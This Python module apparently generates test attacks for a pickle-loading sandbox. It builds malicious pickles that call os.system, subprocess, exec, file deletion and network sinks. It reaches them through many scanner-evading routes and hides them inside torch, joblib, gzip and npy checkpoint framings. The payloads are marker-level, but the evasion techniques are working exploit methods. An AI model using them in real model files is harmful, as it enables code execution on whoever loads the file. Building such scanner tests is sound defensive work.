"""attacks generates candidate attacks: payloads over real names, resolved
in several ways, written in several pickle styles, inside several framings.

Every payload is harmless by itself (it creates a file named MARK in the
load's throwaway directory, reads /etc/hostname, or opens a connection
that the sandbox has no network for) and is only ever loaded inside the
oracle's sandbox, where the audit hook refuses it before it happens.
A candidate's id names its parts, so the same combination has the same id
in every run: sink, resolver, style, wrapper, framing.
"""

import gzip
import importlib
import io
import marshal
import struct
import zipfile
import zlib

from pickleasm import Asm, Build, Call, Global, attr, prefixed

MARK = "MARK"

# Sinks: (module, name, arguments). Each does something the hook refuses.
SINKS = [
    ("os", "system", ("touch " + MARK,)),
    ("posix", "system", ("touch " + MARK,)),
    ("os", "popen", ("touch " + MARK,)),
    ("subprocess", "call", (["touch", MARK],)),
    ("subprocess", "Popen", (["touch", MARK],)),
    ("subprocess", "check_output", (["touch", MARK],)),
    ("builtins", "exec", ("open('MARK', 'w')",)),
    ("builtins", "eval", ("open('MARK', 'w')",)),
    ("builtins", "open", (MARK, "w")),
    ("io", "open", (MARK, "w")),
    ("_io", "FileIO", (MARK, "w")),
    ("codecs", "open", (MARK, "w")),
    ("os", "mkdir", (MARK,)),
    ("os", "remove", ("/etc/hostname",)),
    ("os", "listdir", ("/",)),
    ("shutil", "copyfile", ("/etc/hostname", MARK)),
    ("numpy", "save", (MARK, [1])),
    ("numpy", "savetxt", (MARK, [1])),
    ("numpy", "loadtxt", ("/etc/hostname", "str")),
    ("torch", "save", ([1], MARK)),
    ("torch", "from_file", (MARK, True, 1)),
    ("joblib", "dump", ([1], MARK)),
    ("pandas", "read_csv", ("/etc/hostname",)),
    ("logging", "FileHandler", (MARK,)),
    ("zipfile", "ZipFile", (MARK, "w")),
    ("tarfile", "open", (MARK, "w")),
    ("sqlite3", "connect", (MARK,)),
    ("shelve", "open", (MARK,)),
    ("tempfile", "mkdtemp", ()),
    ("timeit", "timeit", ("open('MARK', 'w')", "pass", None, 1)),
    ("sympy", "sympify", ("__import__('os').system('touch MARK')",)),
    ("numpy.testing._private.utils", "runstring", ("open('MARK', 'w')", {})),
    ("socket", "create_connection", (("10.255.255.1", 80),)),
    ("urllib.request", "urlopen", ("http://10.255.255.1/",)),
    ("webbrowser", "open", ("http://10.255.255.1/",)),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("glob", "glob", ("/*",)),
    ("runpy", "run_path", ("/etc/hostname",)),
    ("marshal", "loads", (marshal.dumps(compile("open('MARK', 'w')", "m", "exec")),)),
    ("torch", "load", ("/etc/hostname",)),
]

# Modules that hold another module as an attribute: the dotted-name route
# (STACK_GLOBAL('pathlib', 'os.system')) needs one per sink module.
HOLDERS = ["pathlib", "shutil", "tempfile", "glob", "logging", "platform", "zipfile",
           "tarfile", "torch.serialization", "numpy.lib.npyio", "joblib.numpy_pickle",
           "pandas.io.common", "sklearn.utils", "asyncio.base_subprocess", "torch.hub"]


def holder_for(module):
    """holder_for names a module with `module` as an attribute, or None."""
    top = module.split(".")[0]
    for h in HOLDERS:
        try:
            m = importlib.import_module(h)
        except Exception:
            continue
        if getattr(getattr(m, top, None), "__name__", "") == top:
            return h
    return None


def resolve(route, module, name, proto):
    """resolve returns a node that yields module.name by one route, or None."""
    dotted = "." in module
    if route == "direct":
        return Global(module, name)
    if route == "dotted":
        h = holder_for(module)
        return Global(h, module + "." + name) if h and proto >= 4 and not dotted else None
    if route == "pydoc.locate":
        return Call(Global("pydoc", "locate"), module + "." + name)
    if route == "pkgutil.resolve_name":
        return Call(Global("pkgutil", "resolve_name"), module + ":" + name)
    if route == "import_module":
        return attr(Call(Global("importlib", "import_module"), module), name)
    if route == "__import__":
        return None if dotted else attr(Call(Global("builtins", "__import__"), module), name)
    if route == "attrgetter":
        mod = Call(Global("importlib", "import_module"), module)
        return Call(Call(Global("operator", "attrgetter"), name), mod)
    if route == "sys.modules":
        return attr(Call(attr(Global("sys", "modules"), "get"), module), name)
    if route == "fetcher":
        # a library function that returns getattr(obj, name): safe to
        # call, and what it returns is whatever the name fetches
        h = holder_for(module)
        if not h or dotted:
            return None
        return Call(Global("astropy.samp.utils", "getattr_recursive"), Global(h, module), name)
    raise ValueError(route)


ROUTES = ["direct", "dotted", "pydoc.locate", "pkgutil.resolve_name", "import_module",
          "__import__", "attrgetter", "sys.modules", "fetcher"]
CALLS = ["reduce", "obj", "inst", "newobj", "newobj_ex", "partial", "methodcaller", "setstate"]


def payload(sink, route, call, proto):
    """payload returns the node that runs sink, or None when the mix is impossible."""
    module, name, args = sink
    fn = resolve(route, module, name, proto)
    if fn is None:
        return None
    if call == "partial":
        return Call(Call(Global("functools", "partial"), fn, *args))
    if call == "methodcaller":
        if route != "direct" or "." in module:
            return None
        mod = Call(Global("importlib", "import_module"), module)
        return Call(Call(Global("operator", "methodcaller"), name, *args), mod)
    if call == "setstate":
        if len(args) != 1:
            return None
        ns = Build(Call(Global("types", "SimpleNamespace")), {"__setstate__": fn})
        return Build(ns, args[0])
    return Call(fn, *args)


def wrap(node, wrapper):
    """wrap places the payload where a checkpoint keeps its values."""
    if wrapper == "dict":
        return {"epoch": 3, "state_dict": node, "note": "fine-tuned"}
    if wrapper == "list":
        return [1, node, "x"]
    return node


def npy_object(program):
    """npy_object frames a pickle as a NumPy object array (numpy.load(allow_pickle=True))."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + program


def torch_zip(data_pkl, real_zip):
    """torch_zip puts data_pkl in place of the data.pkl of a real torch.save archive."""
    src = zipfile.ZipFile(io.BytesIO(real_zip))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data.pkl"):
                data = data_pkl
            z.writestr(info, data)
    return out.getvalue()


def real_pickle(real_zip):
    """real_pickle returns the data.pkl of a real torch.save archive."""
    z = zipfile.ZipFile(io.BytesIO(real_zip))
    return z.read([n for n in z.namelist() if n.endswith("/data.pkl")][0])


FRAMINGS = ["raw", "prefix-real-pickle", "torch-zip", "torch-zip-prefix", "joblib-zlib",
            "gzip", "npy-object", "nested-pickle.loads"]


def frame(program, framing, proto, real):
    """frame returns (file extension, bytes) of the program in one framing."""
    if framing == "raw":
        return ".pkl", program
    if framing == "prefix-real-pickle":
        return (".pkl", prefixed(program, real["pickle"])) if proto < 4 else (None, None)
    if framing == "torch-zip":
        return ".pt", torch_zip(program, real["torch"])
    if framing == "torch-zip-prefix":
        if proto >= 4:
            return None, None
        return ".pt", torch_zip(prefixed(program, real_pickle(real["torch"])), real["torch"])
    if framing == "joblib-zlib":
        return ".joblib", zlib.compress(program, 3)
    if framing == "gzip":
        return ".pkl.gz", gzip.compress(program, mtime=0)
    if framing == "npy-object":
        return ".npy", npy_object(program)
    if framing == "nested-pickle.loads":
        outer = Asm(proto=2).program(Call(Global("pickle", "loads"), program))
        return ".pkl", outer
    raise ValueError(framing)


def candidate(rng, real, names=None):
    """candidate draws one attack; it returns None for an impossible mix."""
    sink = rng.choice(SINKS)
    route = rng.choice(ROUTES)
    call = rng.choice(CALLS)
    proto = rng.choice([0, 1, 2, 3, 4, 5])
    memo = rng.random() < 0.3
    wrapper = rng.choice(["bare", "dict", "list"])
    framing = rng.choice(FRAMINGS)
    node = payload(sink, route, call, proto)
    if node is None:
        return None
    style = call if call in ("obj", "inst", "newobj", "newobj_ex") else "reduce"
    if style == "inst" and proto >= 2:
        return None
    program = Asm(proto=proto, call=style, memo=memo).program(wrap(node, wrapper))
    ext, data = frame(program, framing, proto, real)
    if data is None:
        return None
    cid = "attack.%s.%s.%s.%s.p%d%s.%s.%s" % (sink[0], sink[1], route, call, proto,
                                           ".memo" if memo else "", wrapper, framing)
    desc = "%s.%s(...) resolved by %s, called by %s, protocol %d%s, %s, in %s" % (
        sink[0], sink[1], route, call, proto, " through the memo" if memo else "", wrapper, framing)
    return {"id": cid, "kind": "attack", "ext": ext, "data": data, "desc": desc}
